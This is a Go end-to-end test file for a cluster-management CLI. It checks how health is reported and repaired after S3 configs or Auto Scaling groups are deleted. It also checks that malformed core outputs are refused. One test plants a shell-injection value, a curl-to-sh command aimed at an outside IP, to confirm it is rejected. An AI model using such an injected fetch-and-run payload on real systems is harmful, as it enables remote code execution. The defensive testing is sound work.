package e2e

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/autoscaling"
	"github.com/aws/aws-sdk-go-v2/service/s3"
)

// describedGroup is a group as `describe -o json` shows it.
type describedGroup struct {
	Group    string `json:"group"`
	Health   string `json:"health"`
	Problems []struct {
		Reason, Repair string
		Broken         bool
	} `json:"problems"`
}

type description struct {
	Health   string `json:"health"`
	Problems []struct {
		Reason, Repair string
	} `json:"problems"`
	Groups    []describedGroup `json:"groups"`
	Conflicts []struct {
		Stack, Reason string
	} `json:"conflicts"`
}

func describeCluster(t *testing.T, cluster string) description {
	t.Helper()
	return decode[description](t, must(t, "describe", cluster, "-o", "json"))
}

func groupOf(t *testing.T, d description, name string) describedGroup {
	t.Helper()
	for _, g := range d.Groups {
		if g.Group == name {
			return g
		}
	}
	t.Fatalf("no group %s in %+v", name, d)
	return describedGroup{}
}

// Health comes from what is deployed: a group whose Auto Scaling group was
// deleted by hand, or whose node configuration is gone from the bucket,
// is broken, with the reason and the command that repairs it;
// update-group repairs what it can and says "No changes" only once the
// group is whole.
func TestHealthFromRealState(t *testing.T) {
	parallel(t)
	resetMoto(t)
	c := newClients(t)
	ctx := context.Background()
	must(t, "create-core", "core", "-q")
	must(t, "add-agents", "-n", "a", "-t", "t3.small", "-j", "core", "-c", "2", "-q")
	must(t, "add-agents", "-n", "b", "-t", "t3.small", "-j", "core", "-c", "2", "--ssh-cidr", "203.0.113.0/24", "-q")
	bucket := outputs(describeStack(t, c, "core"))["BucketName"]
	// The swarm as its leader sees it, every node Ready, its lone manager
	// backed up: without a fresh snapshot the cluster is never healthy.
	publish(t, c, bucket, "core", time.Now(), aws.Time(time.Now()), everyoneReady(clusterInstances(t, c, "core")))
	d := describeCluster(t, "core")
	if d.Health != "healthy" || groupOf(t, d, "a").Health != "healthy" || groupOf(t, d, "b").Health != "healthy" {
		t.Fatalf("a fresh cluster is not healthy: %+v", d)
	}

	// The node configurations of a, deleted from the bucket.
	out, err := c.s3.ListObjectsV2(ctx, &s3.ListObjectsV2Input{Bucket: aws.String(bucket), Prefix: aws.String("join/groups/a/")})
	if err != nil || len(out.Contents) == 0 {
		t.Fatalf("node configurations of a: %v, %v", out, err)
	}
	for _, o := range out.Contents {
		if _, err := c.s3.DeleteObject(ctx, &s3.DeleteObjectInput{Bucket: aws.String(bucket), Key: o.Key}); err != nil {
			t.Fatal(err)
		}
	}
	// The Auto Scaling group of b, deleted by hand.
	asg := groupASG(t, c, "core", "b")
	if _, err := c.asg.DeleteAutoScalingGroup(ctx, &autoscaling.DeleteAutoScalingGroupInput{AutoScalingGroupName: asg.AutoScalingGroupName, ForceDelete: aws.Bool(true)}); err != nil {
		t.Fatal(err)
	}

	d = describeCluster(t, "core")
	a, b := groupOf(t, d, "a"), groupOf(t, d, "b")
	if a.Health != "broken" || len(a.Problems) != 1 || !strings.Contains(a.Problems[0].Reason, "node configuration s3://"+bucket+"/join/groups/a/") ||
		!strings.Contains(a.Problems[0].Reason, "is missing") || a.Problems[0].Repair != "`clusterctl update-group -n a -j core` uploads it again" {
		t.Errorf("group a without its node configuration: %+v", a)
	}
	if b.Health != "broken" || len(b.Problems) != 1 || !strings.Contains(b.Problems[0].Reason, "Auto Scaling group is gone") ||
		!strings.Contains(b.Problems[0].Repair, "`clusterctl remove-group -n b -j core --yes`, then `clusterctl add-agents -n b -j core --instance-type t3.small --count 2") ||
		!strings.Contains(b.Problems[0].Repair, "--ssh-cidr 203.0.113.0/24") {
		t.Errorf("group b without its Auto Scaling group: %+v", b)
	}
	text := must(t, "describe", "core").stdout
	for _, want := range []string{"broken", "a: Problem: its node configuration", "Repair: `clusterctl update-group -n a -j core` uploads it again", "b: Problem: its Auto Scaling group is gone"} {
		if !strings.Contains(text, want) {
			t.Errorf("describe does not say %q:\n%s", want, text)
		}
	}

	// update-group puts the node configuration back, and says so.
	r := must(t, "update-group", "-n", "a", "-j", "core")
	if strings.Contains(r.stderr, "No changes") || !strings.Contains(r.stderr, "Repaired core-a: uploaded the missing node configuration") {
		t.Errorf("update-group of a group without its node configuration:\n%s", r)
	}
	// The bucket is versioned: the deleted configuration keeps its old
	// version behind a delete marker; one is there now.
	if out, err := c.s3.ListObjectsV2(context.Background(), &s3.ListObjectsV2Input{Bucket: aws.String(bucket), Prefix: aws.String("join/groups/a/")}); err != nil || len(out.Contents) != 1 {
		t.Errorf("node configurations of a after the repair: %v (%v), want 1", out, err)
	}
	if r := must(t, "update-group", "-n", "a", "-j", "core"); !strings.Contains(r.stderr, "No changes") {
		t.Errorf("update-group of a whole group:\n%s", r)
	}
	if g := groupOf(t, describeCluster(t, "core"), "a"); g.Health != "healthy" {
		t.Errorf("a after the repair: %+v", g)
	}
	// An update cannot bring back a deleted Auto Scaling group: refused,
	// naming what does.
	r = clusterctl(t, "update-group", "-n", "b", "-j", "core", "-c", "3")
	if r.code != 1 || !strings.Contains(r.stderr, "has no Auto Scaling group") || !strings.Contains(r.stderr, "clusterctl remove-group -n b -j core --yes") {
		t.Errorf("update-group of a group without its Auto Scaling group:\n%s", r)
	}
}

// A core whose outputs no longer hold the join contract is broken, not
// healthy, and groups refuse to join it, naming the output; a tampered
// value (shell code in an output) is refused the same way.
func TestCoreOutputsCheckedAndRefused(t *testing.T) {
	parallel(t)
	resetMoto(t)
	c := newClients(t)
	must(t, "create-core", "core", "-q")
	editOutputs(t, c, "core", func(outs map[string]any) { delete(outs, "AgentSecurityGroupId") })
	d := describeCluster(t, "core")
	if d.Health != "broken" || len(d.Problems) == 0 || !strings.Contains(d.Problems[0].Reason, "core outputs missing: AgentSecurityGroupId") ||
		!strings.Contains(d.Problems[0].Repair, "clusterctl update-core core") {
		t.Errorf("core without an output: %+v", d)
	}
	r := clusterctl(t, "add-agents", "-n", "g", "-t", "t3.small", "-j", "core", "-q")
	if r.code != 1 || !strings.Contains(r.stderr, `core "core" cannot be joined: core outputs missing: AgentSecurityGroupId`) {
		t.Errorf("add-agents to a core without an output:\n%s", r)
	}

	resetMoto(t)
	must(t, "create-core", "core", "-q")
	editOutputs(t, c, "core", func(outs map[string]any) {
		outs["ManagersKey"].(map[string]any)["Value"] = "join/swarm/managers'; curl http://203.0.113.9/x | sh; : '"
	})
	r = clusterctl(t, "add-agents", "-n", "g", "-t", "t3.small", "-j", "core", "-q")
	if r.code != 1 || !strings.Contains(r.stderr, `core output ManagersKey is "join/swarm/managers'; curl`) || !strings.Contains(r.stderr, "not a bucket key") {
		t.Errorf("add-agents to a core with shell code in an output:\n%s", r)
	}
	if names := c.stackNames(t); len(names) != 1 {
		t.Errorf("stacks %v: a group was created", names)
	}
}
